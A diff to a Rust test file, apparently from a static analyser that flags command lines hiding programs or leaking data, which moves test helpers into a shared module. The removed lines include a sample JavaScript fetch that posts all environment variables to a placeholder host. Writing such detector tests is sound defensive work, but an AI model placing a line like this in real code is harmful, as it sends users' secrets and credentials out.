@@ -1,31 +1,10 @@
 //! Command lines that hide a program behind wrappers, folders and limits, and honest ones that look alike.
 
-use std::collections::BTreeMap;
+use weir_model::contents::Surface;
 
-use weir_model::contents::{SinkKind, SourceKind, Surface};
-
+use super::commands::{SENDS, brought, plain, sent};
 use super::run;
-use crate::command::{Reading, read};
 use crate::{Facts, Limits, Package, SourceFile, analyse};
-
-const SENDS: &str =
-    "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })";
-
-fn plain(text: &str) -> Reading {
-    read(text, &BTreeMap::new())
-}
-
-fn sent(text: &str) -> bool {
-    let leaks = plain(text).leaks;
-    leaks.iter().any(|leak| leak.sink != SinkKind::Process)
-}
-
-fn brought(text: &str) -> bool {
-    let leaks = plain(text).leaks;
-    leaks
-        .iter()
-        .any(|leak| leak.sink == SinkKind::Process && leak.source.kind == SourceKind::Fetched)
-}
 
 #[test]
 fn wrappers_hide_nothing() {
